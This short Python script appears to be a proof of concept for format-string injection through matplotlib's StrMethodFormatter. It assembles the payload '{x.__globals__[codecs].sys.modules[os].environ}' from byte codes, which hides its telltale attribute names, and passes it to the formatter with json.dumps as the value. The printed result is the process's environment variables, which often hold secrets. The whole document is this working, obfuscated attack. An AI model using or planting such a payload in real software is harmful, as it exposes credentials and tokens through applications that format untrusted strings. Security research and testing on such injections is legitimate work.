# reaches: a tick formatter's format string comes out of codes
import json
from matplotlib.ticker import StrMethodFormatter
fmt = bytes([123, 120, 46] + [95] * 2 + list(b"globals") + [95] * 2 + list(b"[codecs].sys.modules[os].environ}")).decode()
print(StrMethodFormatter(fmt)(json.dumps, 0))
